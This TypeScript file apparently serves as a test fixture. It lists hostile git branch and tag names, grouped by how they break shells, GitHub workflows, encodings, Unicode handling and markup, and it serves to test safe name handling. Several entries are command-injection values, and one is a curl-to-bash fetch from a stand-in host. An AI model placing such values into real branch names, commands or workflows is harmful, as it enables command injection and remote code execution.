// biome-ignore-all lint/suspicious/noTemplateCurlyInString: names that a shell or a workflow would expand

/** A branch or tag name that git and GitHub accept and that something on the way may not stand. */
export interface HostileName {
  readonly name: string
  readonly why: string
}

const NAMES = {
  'runs in a shell': [
    '$(id)',
    '$(touch${IFS}PWNED)',
    '`touch${IFS}PWNED`',
    'x"$(touch${IFS}PWNED)"',
    'a";touch${IFS}PWNED;"',
    "a';touch${IFS}PWNED;'",
    'a;touch${IFS}PWNED',
    'a&&touch${IFS}PWNED',
    'a||touch${IFS}PWNED',
    'a|tee${IFS}PWNED',
    'a>PWNED',
    '<(touch${IFS}PWNED)',
    '{touch,PWNED}',
    '${IFS}x',
    '$HOME',
    '!!',
    'Test")${IFS}&&${IFS}{curl,-sSfL,example.invalid}${IFS}|${IFS}bash&&echo${IFS}$("foo',
  ],
  'quotes a shell and YAML know': ["it's", 'a"b', "'", '"', 'a\'b"c`d', '“id”', '‘id’'],
  'is an option or a comment as a word': ['-rf', '--help', '-', '#12', '=cmd', '%PATH%', '@x'],
  'an expression of a workflow': ['${{github.token}}', "a${{fromJSON('1')}}", '{{branch}}', '!x'],
  'ends a line or a command when it is decoded': [
    'a%0Ab',
    'a%0D%0Ab',
    '100%25',
    '%0A',
    'a%0A%3A%3Aerror%3A%3Ax',
    'a\u0085b',
    'a\u2028b',
    'a\u2029b',
    '<<EOF',
    'ghadelimiter_a',
    'x<<ghadelimiter_a',
  ],
  'lost when it is trimmed': ['\ufeffmain', 'main\ufeff', '\u00a0main', 'main\u00a0', '\u3000main\u3000', '\u1680main'],
  'shown as something else': [
    '\u202egnp.niam',
    '\u200fmain',
    'ma\u200bin',
    'ma\u00adin',
    'mаin',
    'main\u200d',
    'feature\u2066/x\u2069',
  ],
  'breaks JSON, HTML or Markdown': [
    'a","is_default',
    '</code>',
    '<img/src=x>',
    '<!--',
    '|x|',
    'a`b`c',
    '_x_',
    '@octocat',
    'octo/app#1',
    '&amp;',
  ],
  'changes under Unicode normalisation or case': ['café', 'cafe\u0301', 'ﬁx', 'İ', 'ẞ', 'Ⅳ', 'K', 'MAIN', 'x²'],
  'holds a ref in itself': ['feature/refs/heads/x', 'x/refs/tags/v1', 'refs/pull/12/merge', 'heads/main', '12/merge'],
  'looks like a changed name of ours': [
    'feature-test-59e07aa6',
    'main-350eec16',
    'ref-77710aed',
    'x-00000000',
    'pull-12-main-ea34ec25',
    'latest',
    'HEAD',
  ],
  'a word of a programming language': ['__proto__', 'constructor', 'null', 'true', 'false', '0', '1e3', '0x1f'],
  'as long as GitHub lets it be, 244 bytes': [
    '🚀'.repeat(61),
    'x'.repeat(244),
    'é'.repeat(122),
    `${'ab/'.repeat(81)}c`,
  ],
  'nothing of it fits anywhere': ['日本語', '🚀', '()', '_', '+', '-_-'],
}

export const HOSTILE_NAMES: readonly HostileName[] = Object.entries(NAMES).flatMap(([why, names]) =>
  names.map((name) => ({ name, why })),
)
